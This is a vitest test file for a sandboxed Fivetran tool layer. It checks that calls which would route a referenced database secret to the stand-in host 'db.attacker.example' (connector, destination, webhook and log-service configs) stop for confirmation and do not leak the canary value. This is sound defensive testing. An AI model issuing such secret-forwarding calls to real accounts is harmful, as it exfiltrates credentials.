import { describe, expect, test } from "vitest";
import { connectionNamed } from "../../src/sandbox/index.js";
import { changes, harness, idOf } from "../harness.js";
import { groupId } from "../tools/change-facts.js";

const env = { FIVETRAN_SECRET_REFS: "DB_PW", DB_PW: "canary-0c4b7e55d1" };
const reference = { secret_ref: "env:DB_PW" };
const HOST = "db.attacker.example";

type Args = Record<string, unknown>;
const api = (operation_id: string, body: Args, params: Args = {}): [string, Args] => [
  "write_api",
  { operation_id, params, body },
];

const postgres = { schema_prefix: "fresh_pg", host: HOST, user: "fivetran", password: reference };

describe("a call that carries a reference asks, and its plan shows where the secret goes", () => {
  test.each<[name: string, call: (group: string, connection: string) => [string, Args], string]>([
    [
      "create_connector, paused and untested",
      (group) => [
        "create_connector",
        { service: "postgres", group, paused: true, run_setup_tests: false, config: postgres },
      ],
      HOST,
    ],
    [
      "update_connector",
      (_, connector) => ["update_connector", { connector, config: { password: reference } }],
      "host",
    ],
    [
      "create_connection",
      (group_id) =>
        api("create_connection", {
          group_id,
          service: "postgres",
          paused: true,
          run_setup_tests: false,
          config: postgres,
        }),
      HOST,
    ],
    [
      "modify_connection",
      (_, connectionId) =>
        api("modify_connection", { config: { password: reference } }, { connectionId }),
      "config.password",
    ],
    [
      "create_destination",
      (group_id) =>
        api("create_destination", {
          group_id,
          service: "snowflake",
          time_zone_offset: "0",
          run_setup_tests: false,
          config: { host: HOST, port: 443, user: "loader", password: reference },
        }),
      HOST,
    ],
    [
      "create_account_webhook",
      () =>
        api("create_account_webhook", {
          url: `https://${HOST}/hook`,
          events: ["sync_end"],
          active: false,
          secret: reference,
        }),
      HOST,
    ],
    [
      "add_log_service",
      (group_id) =>
        api("add_log_service", {
          group_id,
          service: "splunkLog",
          enabled: true,
          config: { host: HOST, port: 8088, token: reference },
        }),
      HOST,
    ],
  ])("%s", async (_, callOf, shown) => {
    const on = await harness({ env });
    const [tool, args] = callOf(
      groupId(on.sandbox, "staging"),
      idOf(on.sandbox, "postgres_orders"),
    );
    const plan = await on.call(tool, args);
    expect(plan.status, plan.text).toBe("confirmation_required");
    expect(plan.text).toContain(shown);
    expect(plan.text).toContain("env:DB_PW");
    expect(plan.text).not.toContain("canary");
    expect(changes(on.sandbox)).toEqual([]);
  });
});

describe("what starts a historical load asks", () => {
  const bare = { service: "fivetran_log", group_id: "", config: { schema: "fresh_log" } };
  test.each<
    [name: string, status: string, call: (group: string, connection: string) => [string, Args]]
  >([
    [
      "create_connector",
      "confirmation_required",
      (group) => ["create_connector", { service: "github", group, name: "fresh_gh" }],
    ],
    [
      "create_connector, paused",
      "done",
      (group) => ["create_connector", { service: "github", group, name: "fresh_gh", paused: true }],
    ],
    [
      "create_connector, paused, with a secret in plain text",
      "confirmation_required",
      (group) => [
        "create_connector",
        {
          service: "postgres",
          group,
          paused: true,
          config: { ...postgres, password: "hunter2hunter2" },
        },
      ],
    ],
    [
      "create_connection",
      "confirmation_required",
      (group_id) => api("create_connection", { ...bare, group_id }),
    ],
    [
      "create_connection, paused",
      "done",
      (group_id) => api("create_connection", { ...bare, group_id, paused: true }),
    ],
    [
      "create_connection, paused: null",
      "confirmation_required",
      (group_id) => api("create_connection", { ...bare, group_id, paused: null }),
    ],
    [
      "resume_connectors of one that never synced",
      "confirmation_required",
      (_, connection) => ["resume_connectors", { connectors: [connection] }],
    ],
    [
      "modify_connection paused=false of one that never synced",
      "confirmation_required",
      (_, connectionId) => api("modify_connection", { paused: false }, { connectionId }),
    ],
  ])("%s: %s", async (_, status, callOf) => {
    const on = await harness({ env });
    on.sandbox.edit((world) => {
      const connection = connectionNamed(world, "stripe_payments");
      connection.paused = true;
      connection.succeeded_at = null;
    });
    const [tool, args] = callOf(
      groupId(on.sandbox, "staging"),
      idOf(on.sandbox, "stripe_payments"),
    );
    const result = await on.call(tool, args);
    expect(result.status, result.text).toBe(status);
    expect(changes(on.sandbox)).toHaveLength(status === "done" ? 1 : 0);
  });

  test("one that synced before is resumed at once, by either tool", async () => {
    const on = await harness();
    for (const call of [
      api(
        "modify_connection",
        { paused: false },
        { connectionId: idOf(on.sandbox, "mysql_legacy") },
      ),
      ["resume_connectors", { connectors: ["mysql_legacy"] }] as const,
    ]) {
      on.sandbox.edit((world) => {
        connectionNamed(world, "mysql_legacy").paused = true;
      });
      const [tool, args] = call;
      expect((await on.call(tool, args)).status).toBe("done");
    }
  });
});
